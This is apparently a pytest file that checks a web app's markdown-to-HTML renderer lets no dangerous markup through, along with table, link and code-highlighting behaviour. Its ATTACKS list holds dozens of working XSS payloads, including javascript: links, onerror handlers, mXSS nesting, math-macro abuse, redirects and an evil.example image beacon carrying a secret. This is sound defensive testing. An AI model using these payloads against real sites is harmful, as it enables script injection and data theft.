"""Markdown -> HTML that the page may show: what it can, and that nothing dangerous comes through."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_documents import documents

from llm_decoder.web import highlight
from llm_decoder.web.rendering import render_blocks

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=/logout method=post><button>ok</button></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout)",
    '[x](https://a.example "onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    '![x"onerror="alert(1)](https://evil.example/y.png)',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: https://evil.example 'a\" onclick=\"alert(1)'",
    "```<script>alert(1)</script>\ncode\n```",
    '```"onmouseover="alert(1)\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "~~~js\n</code></pre><script>alert(1)</script>\n~~~",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <input type=image src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "> <iframe srcdoc='<script>alert(1)</script>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufeff<script>alert(1)</script>\x00",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x style='position:fixed;inset:0' class='overlay'>",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\text{</mtext><script>alert(1)</script>}$$",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"\[\url{javascript:alert(1)}\]",
    r"$\style{position:fixed;inset:0}{x} \class{overlay}{y} \cssId{z}{w} \htmlData{a=b}{c}$",
    r"$\color{red;background:url(//evil.example)}x \textcolor{\"onmouseover=alert(1)}{y}$",
    r"$\unknown<img src=x onerror=alert(1)>$",
    r"\[ <math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math> \]",
    r"$x\text{ style=\"position:fixed\" onclick=\"alert(1)\" }$",
    r"$\hspace{-9999px}\hspace{9999em} \raisebox{-50em}{x}$",
    "$$\n<script>alert(1)</script>\n$$",
]

MAY_STAND: dict[str, set[str]] = {
    **{tag: set() for tag in ("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "code")},
    **{tag: set() for tag in ("blockquote", "ul", "table", "thead", "tbody", "tr")},
    "pre": {"class", "data-language"},
    "span": {"class"},
    "a": {"href", "title", "target", "rel"},
    "ol": {"start"},
    "li": {"class"},
    "th": {"class"},
    "td": {"class"},
    "input": {"type", "disabled", "checked"},
    "p": {"class"},
    "math": {"display"},
    **{tag: set() for tag in ("mrow", "mi", "mn", "mtext", "msqrt", "mroot", "mfrac", "mtr", "merror")},
    **{tag: set() for tag in ("msub", "msup", "msubsup", "munder", "mover", "munderover", "mtable")},
    "mo": {"lspace", "rspace", "stretchy", "form"},
    "mspace": {"width"},
    "mtd": {"class"},
}


class Judge(HTMLParser):
    """Fails on every tag, attribute or address that is not expected."""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in MAY_STAND, tag
        for name, value in attributes:
            assert name in MAY_STAND[tag], (tag, name)
            if name == "href":
                assert re.match(r"(https?://|mailto:)", value or ""), value
            if name == "type":
                assert value == "checkbox"
            if name in ("width", "lspace", "rspace"):
                assert re.fullmatch(r"-?[0-9.]{1,12}(em)?", value or ""), value
                assert -2 <= float((value or "").removesuffix("em")) <= 20
            if name == "class":
                assert value in {"code", "task", "left", "center", "right", "case", "formula"} | highlight.classes()

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    handle_comment = handle_pi = unknown_decl = handle_decl


def html_of(text: str) -> str:
    return "".join(render_blocks(text))


def judge(html: str) -> None:
    judge = Judge()
    judge.feed(html)
    judge.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_more_than_text(attack: str) -> None:
    judge(html_of(attack))
    judge(html_of(f"- item\n\n  {attack}\n\n> {attack}\n\n**{attack}**"))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(ATTACKS), documents(), st.text(max_size=20)), max_size=4).map("".join))
def test_nothing_of_attacks_in_any_text_is_more_than_text(text: str) -> None:
    judge(html_of(text))


def test_the_judge_sees_what_it_should_not() -> None:
    for html in (
        "<script>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<a href='//x'>",
        "<!-- -->",
        "<input type=text>",
    ):
        with pytest.raises(AssertionError):
            judge(html)


def test_tables_keep_their_alignment_without_a_style() -> None:
    html = html_of("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert '<th class="right">a</th>' in html
    assert '<td class="center">2</td>' in html
    assert "style" not in html


def test_tasks_have_boxes_that_cannot_be_ticked() -> None:
    html = html_of("- [ ] open\n- [x] done")
    assert html.count('<li class="task">') == html.count('<input type="checkbox" disabled=""') == 2
    assert html.count("checked") == 1


def test_strikethrough_and_line_ends_are_kept() -> None:
    assert html_of("~~no~~\nyes") == "<p><s>no</s><br>\nyes</p>\n"


def test_an_image_is_a_link_that_nobody_has_followed() -> None:
    html = html_of("![a cat](https://a.example/cat.png)")
    assert "<img" not in html
    assert '<a href="https://a.example/cat.png"' in html
    assert ">a cat</a>" in html


def test_links_open_elsewhere_and_tell_nothing() -> None:
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in html_of("[x](https://a.example)")


def test_a_link_defined_before_counts_for_later_blocks() -> None:
    assert 'href="https://a.example"' in render_blocks("[x]: https://a.example\n\ntext\n\n[x]")[-1]


@pytest.mark.parametrize(
    ("language", "name"),
    [("python", "python"), ("Py", "py"), ("c++", "c++"), ("rs", "rs"), ("sh", "sh"), ("tsx", "tsx")],
)
def test_code_has_colours_and_says_its_language(language: str, name: str) -> None:
    html = html_of(f"```{language}\nreturn 'x' < 1\n```")
    assert f'<pre class="code" data-language="{name}"><code>' in html
    assert '<span class="' in html
    assert "&lt;" in html


@pytest.mark.parametrize("language", ["", "nonsense", "brainfuck", "x" * 1000])
def test_code_of_another_language_is_plain(language: str) -> None:
    html = html_of(f"```{language}\na < b\n```")
    assert "<code>a &lt; b\n</code>" in html
    assert "<span" not in html


def test_every_language_that_is_named_has_a_lexer() -> None:
    assert all(highlight._lexer(language) is not None for language in highlight.LANGUAGES)


def test_code_with_lines_of_unusual_length_is_plain() -> None:
    assert "<span" not in html_of(f"```python\nx = 1\n{'x = 1; ' * 200}\n```")


def test_code_that_takes_too_long_has_its_rest_without_colours(monkeypatch: pytest.MonkeyPatch) -> None:
    clock = iter(range(1000))
    monkeypatch.setattr(highlight.time, "thread_time", lambda: next(clock) / 10)
    html = highlight.highlight("a = 1\nb = 2\nc = 3 < 4", "python")
    assert html == '<span class="n">a</span> = 1\nb = 2\nc = 3 &lt; 4'


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(highlight.LANGUAGES)), st.text(max_size=80))
def test_colours_change_no_character_of_code(language: str, code: str) -> None:
    class Text(HTMLParser):
        text = ""

        def handle_data(self, data: str) -> None:
            self.text += data

    parser = Text()
    parser.feed(highlight.highlight(code, language))
    parser.close()
    assert parser.text == code
